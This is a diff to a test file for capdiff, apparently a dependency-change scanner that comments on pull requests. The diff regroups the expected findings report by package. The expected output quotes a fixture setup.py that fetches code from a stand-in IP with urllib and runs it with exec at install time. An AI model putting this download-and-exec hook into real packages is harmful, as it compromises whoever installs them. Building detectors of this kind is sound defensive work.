@@ -222,17 +222,26 @@ async def test_install_time_download_and_exec_blocks_then_a_fix_clears_it(
     assert body.startswith(
         f"{COMMENT_MARKER}\n### capdiff — 1 blocking in 1 changed dependency\n"
     )
-    assert "<details><summary>⛔ pkg 2.0 — install-time-payload in setup.py:3</summary>" in body
-    # A threat names its chain, each step with its file:line.
+    # One section for the package, its findings grouped by type, the threats first with
+    # their chains whole.
     assert (
-        "<details><summary>⛔ pkg 2.0 — download-exec in setup.py:4</summary>\n\n"
-        "Downloads \\`http://203.0.113.7/x\\` with \\`urllib.request.urlopen\\` "
-        "\\(setup.py:3\\) and runs it with \\`exec\\` \\(setup.py:4\\).\n"
+        "<details><summary>⛔ pkg 2.0 — install-time-payload, download-exec, install-script, "
+        "dynamic-code</summary>\n\n"
+        "⛔ **`install-time-payload`** — Makes an HTTP request with urllib.request.urlopen "
+        "while the package is installed. (`setup.py:3`) (also in `setup.py:4`)\n"
+        "```python\ncode = urllib.request.urlopen('http://203.0.113.7/x').read()\n```\n\n"
+        "⛔ **`download-exec`** — Downloads `http://203.0.113.7/x` with "
+        "`urllib.request.urlopen` \\(setup.py:3\\) and runs it with `exec` \\(setup.py:4\\).\n"
         "```python\nexec(code)\n```\n\n"
-        "Accept (needs write access): `@capdiff ignore pkg@2.0 download-exec`\n"
+        "⚠️ **`install-script`** in `setup.py:3` — Calls urllib.request.urlopen.read from code "
+        "that runs when the package is installed.\n"
+        "```python\ncode = urllib.request.urlopen('http://203.0.113.7/x').read()\n```\n\n"
+        "⚠️ **`dynamic-code`** in `setup.py:4` — Runs dynamically built code with exec.\n"
+        "```python\nexec(code)\n```\n\n"
+        "Accept (needs write access): `@capdiff ignore pkg@2.0 install-time-payload "
+        "download-exec install-script dynamic-code`\n"
         "</details>\n"
     ) in body
-    assert "⚠️ pkg 2.0 — dynamic-code in setup.py:4" in body
 
     # The maintainer publishes a fixed release and the PR moves to it: the same comment
     # is edited to the all-clear line.
@@ -297,7 +306,8 @@ async def test_maintainer_ignore_reruns_to_success(real: RealHarness) -> None:
     assert body.startswith(f"{COMMENT_MARKER}\n### capdiff — ")
     assert "blocking" not in body.split("\n")[1]
     assert "install-time-payload" not in body and "download-exec" not in body
-    assert "⚠️ pkg 2.0 — dynamic-code in setup.py:4" in body
+    assert "<details><summary>⚠️ pkg 2.0 — install-script, dynamic-code</summary>" in body
+    assert "⚠️ **`dynamic-code`** in `setup.py:4` — " in body
 
 
 async def test_release_missing_from_the_index_is_neutral_with_the_reason(
